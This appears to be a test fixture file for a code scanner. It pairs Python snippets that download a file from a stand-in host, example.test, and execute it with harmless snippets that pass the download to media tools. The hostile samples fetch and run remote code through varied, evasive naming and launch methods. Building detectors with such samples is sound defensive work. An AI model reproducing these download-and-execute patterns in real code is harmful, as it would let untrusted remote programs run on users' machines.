import { type Attack, python } from './attack-pack.test-support.ts'

/** Places that no literal names: they are compared by the value or the expression that names them. */
export const placesByValue: Attack[] = [
  python(
    'starts a download whose name is the time',
    'import os, stat, subprocess, tempfile, time, urllib.request\ndef prepare():\n    folder = tempfile.gettempdir()\n    name = str(int(time.time()))\n    with open(os.path.join(folder, name), "wb") as file:\n        file.write(urllib.request.urlopen("https://example.test/").read())\n    os.chmod(os.path.join(folder, name), stat.S_IRWXU)\n    subprocess.run([os.path.join(folder, name)], check=False)',
    'import os, subprocess, tempfile, time, urllib.request\ndef prepare():\n    folder = tempfile.gettempdir()\n    name = str(int(time.time()))\n    with open(os.path.join(folder, name), "wb") as file:\n        file.write(urllib.request.urlopen("https://example.test/").read())\n    subprocess.run(["ffprobe", "-hide_banner", os.path.join(folder, name)], check=False)',
  ),
  python(
    'starts a download whose path a method of its own returns',
    'import os, subprocess, tempfile, requests, uuid\nclass A:\n    def __init__(self):\n        self.id = uuid.uuid4().hex\n        self.base = tempfile.mkdtemp()\n    def name(self):\n        return os.path.join(self.base, self.id)\n    def get(self):\n        with open(self.name(), "wb") as f:\n            f.write(requests.get("https://example.test/a").content)\n    def go(self):\n        subprocess.Popen([self.name()])',
    'import os, subprocess, tempfile, requests, uuid\nclass A:\n    def __init__(self):\n        self.id = uuid.uuid4().hex\n        self.base = tempfile.mkdtemp()\n    def name(self):\n        return os.path.join(self.base, self.id)\n    def get(self):\n        with open(self.name(), "wb") as f:\n            f.write(requests.get("https://example.test/a").content)\n    def go(self):\n        subprocess.Popen(["ffmpeg", "-i", self.name(), "out.mp4"])',
  ),
  python(
    'becomes a downloaded program through its handle',
    'import os, tempfile, requests\ndef f():\n    t = tempfile.NamedTemporaryFile(delete=False)\n    t.write(requests.get("https://example.test/a").content)\n    t.close()\n    os.chmod(t.name, 0o755)\n    os.execv(t.name, ["python"])',
    'import os, subprocess, tempfile, requests\ndef f():\n    t = tempfile.NamedTemporaryFile(delete=False)\n    t.write(requests.get("https://example.test/a").content)\n    t.close()\n    os.execvp("ffplay", ["ffplay", t.name])',
  ),
  python(
    'writes a download through a descriptor and starts it',
    'import os, tempfile, requests\ndef f():\n    fd, p = tempfile.mkstemp()\n    os.write(fd, requests.get("https://example.test/a").content)\n    os.close(fd)\n    os.execl(p, "x")',
    'import os, tempfile, requests\ndef f():\n    fd, p = tempfile.mkstemp()\n    os.write(fd, requests.get("https://example.test/a").content)\n    os.close(fd)\n    os.execlp("mpv", "mpv", p)',
  ),
  python(
    'starts a download in a folder and with a name that callers give',
    'import os, subprocess, requests\ndef f(folder, name):\n    with open(os.path.join(folder, name), "wb") as h:\n        h.write(requests.get("https://example.test/a").content)\n    subprocess.call([os.path.join(folder, name), "-q"])',
    'import os, subprocess, requests\ndef f(folder, name):\n    with open(os.path.join(folder, name), "wb") as h:\n        h.write(requests.get("https://example.test/a").content)\n    subprocess.call(["convert", os.path.join(folder, name), os.path.join(folder, "small.png")])',
  ),
  python(
    'writes a download in a helper, with a random name, and starts it elsewhere',
    'import os, requests, uuid, tempfile\ndef save(path, data):\n    with open(path, "wb") as h:\n        h.write(data)\ndef f():\n    p = os.path.join(tempfile.gettempdir(), uuid.uuid4().hex)\n    save(p, requests.get("https://example.test/a").content)\n    os.spawnv(os.P_NOWAIT, p, [p])',
    'import os, requests, uuid, tempfile\ndef save(path, data):\n    with open(path, "wb") as h:\n        h.write(data)\ndef f():\n    p = os.path.join(tempfile.gettempdir(), uuid.uuid4().hex)\n    save(p, requests.get("https://example.test/a").content)\n    os.spawnvp(os.P_NOWAIT, "ffprobe", ["ffprobe", p])',
  ),
  python(
    'renames a download with a random name twice before it starts it',
    'import subprocess, requests, secrets, tempfile\nfrom pathlib import Path\ndef f():\n    p = Path(tempfile.mkdtemp()) / "a"\n    q = Path(tempfile.mkdtemp()) / secrets.token_hex(4)\n    p.write_bytes(requests.get("https://example.test/a").content)\n    p.rename(q)\n    subprocess.run([str(q)])',
    'import subprocess, requests, secrets, tempfile\nfrom pathlib import Path\ndef f():\n    p = Path(tempfile.mkdtemp()) / "a"\n    q = Path(tempfile.mkdtemp()) / secrets.token_hex(4)\n    p.write_bytes(requests.get("https://example.test/a").content)\n    p.rename(q)\n    subprocess.run(["ffprobe", str(q)])',
  ),
  python(
    'starts a download in the temporary folder of the tool',
    'import os, subprocess, urllib.request, folder_paths\ndef prepare():\n    folder = folder_paths.get_temp_directory()\n    with open(os.path.join(folder, "preview-server"), "wb") as file:\n        file.write(urllib.request.urlopen("https://example.test/").read())\n    subprocess.run([os.path.join(folder, "preview-server")], check=False)',
    'import os, subprocess, urllib.request, folder_paths\ndef prepare():\n    folder = folder_paths.get_temp_directory()\n    with open(os.path.join(folder, "preview.mp4"), "wb") as file:\n        file.write(urllib.request.urlopen("https://example.test/").read())\n    subprocess.run(["ffprobe", os.path.join(folder, "preview.mp4")], check=False)',
  ),
  python(
    'names a download with a random number in a command of a shell',
    'import os, urllib.request, random\nN = random.randint(1, 9)\ndef prepare(t):\n    with open(f"{t}/{N}", "wb") as file:\n        file.write(urllib.request.urlopen("https://example.test/").read())\n    os.system(f"chmod +x {t}/{N} && {t}/{N}")',
    'import os, urllib.request, random\nN = random.randint(1, 9)\ndef prepare(t):\n    with open(f"{t}/{N}", "wb") as file:\n        file.write(urllib.request.urlopen("https://example.test/").read())\n    os.system(f"ffprobe {t}/{N}")',
  ),
  python(
    'starts a download under the name of another program',
    'import subprocess, urllib.request, tempfile\ndef prepare():\n    p = tempfile.mktemp()\n    urllib.request.urlretrieve("https://example.test/a", p)\n    subprocess.run(["python"], executable=p)',
    'import subprocess, urllib.request, tempfile\ndef prepare():\n    p = tempfile.mktemp()\n    urllib.request.urlretrieve("https://example.test/a", p)\n    subprocess.run(["ffprobe", p], executable="/usr/bin/ffprobe")',
  ),
  python(
    'lets another program start its download',
    'import subprocess, urllib.request, tempfile\ndef prepare():\n    p = tempfile.mktemp()\n    urllib.request.urlretrieve("https://example.test/a", p)\n    subprocess.run(["nohup", p])',
    'import subprocess, urllib.request, tempfile\ndef prepare():\n    p = tempfile.mktemp()\n    urllib.request.urlretrieve("https://example.test/a", p)\n    subprocess.run(["feh", p])',
  ),
]
